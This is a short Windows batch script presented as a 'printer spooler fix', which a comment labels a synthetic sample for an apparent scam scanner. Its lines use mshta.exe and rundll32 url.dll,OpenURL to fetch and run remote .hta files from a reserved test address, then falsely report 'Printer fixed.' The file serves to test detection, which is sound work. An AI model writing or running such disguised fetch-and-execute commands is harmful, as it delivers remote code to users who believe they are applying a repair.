@echo off
rem Printer spooler fix (scamscan synthetic sample - harmless text, not malware)
mshta.exe https://203.0.113.61/fix/spooler.hta
rundll32.exe url.dll,OpenURL http://203.0.113.61/fix/update.hta
echo Printer fixed.
